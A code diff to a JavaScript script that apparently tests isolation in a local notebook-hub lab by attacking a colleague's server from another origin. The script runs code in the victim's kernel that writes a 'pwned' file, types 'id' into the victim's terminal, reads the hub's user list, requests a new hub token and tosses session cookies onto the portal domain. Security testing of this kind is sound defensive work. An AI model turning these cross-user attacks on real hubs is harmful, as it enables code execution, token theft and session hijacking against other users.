@@ -4,11 +4,11 @@
 (async function () {
   const params = new URLSearchParams(location.search);
   const victim = params.get("victim");
-  const port = location.port;
-  const hub = `http://hub.lab.localhost:${port}/hubs/1`;
-  const victimServer = `http://${victim}.hub.lab.localhost:${port}/hubs/1/user/${victim}`;
+  const hub = params.get("hub") + "/hubs/1";  // the hub origin
+  const victimServer = params.get("server");  // the colleague's server, on its own host
+  const victimSocket = victimServer.replace(/^http/, "ws");
   const sharedServer = `${hub}/user/${victim}`;  // where the colleague's server was before hosts of its own
-  const portal = `http://lab.localhost:${port}`;
+  const portal = params.get("portal");
   const report = { victim: victim, origin: location.origin, attempts: {} };
 
   async function attempt(name, action) {
@@ -62,10 +62,8 @@
                     parent_header: {}, metadata: {}, channel: "shell",
                     content: { code: "open('/tmp/pwned-by-attacker', 'w').write('pwned')", silent: false } };
   await attempt("run code in the colleague's kernel", () => socket(
-    `ws://${victim}.hub.lab.localhost:${port}/hubs/1/user/${victim}/api/kernels/${params.get("kernel")}/channels`,
-    execute));
-  await attempt("the colleague's terminal", () => socket(
-    `ws://${victim}.hub.lab.localhost:${port}/hubs/1/user/${victim}/terminals/websocket/1`, ["stdin", "id\r"]));
+    `${victimSocket}/api/kernels/${params.get("kernel")}/channels`, execute));
+  await attempt("the colleague's terminal", () => socket(`${victimSocket}/terminals/websocket/1`, ["stdin", "id\r"]));
   await attempt("the hub's user model", () => read(`${hub}/hub/api/user`));
   await attempt("the hub's user list (admins)", () => read(`${hub}/hub/api/users`));
   await attempt("a new hub token", () => read(`${hub}/hub/api/users/${victim}/tokens`, {
@@ -75,8 +73,9 @@
   await attempt("the portal's discovery answer", () => read(`${portal}/api/discovery/v1/me`));
   await attempt("the portal's home page framed", () => framed(`${portal}/`));
   await attempt("toss a session cookie onto the portal", () => {
-    document.cookie = "appliance_session=tossed; domain=lab.localhost; path=/";
-    document.cookie = "__Host-appliance_session=tossed; domain=lab.localhost; path=/; secure";
+    const domain = new URL(portal).hostname;
+    document.cookie = `appliance_session=tossed; domain=${domain}; path=/`;
+    document.cookie = `__Host-appliance_session=tossed; domain=${domain}; path=/; secure`;
     return document.cookie;
   });
 
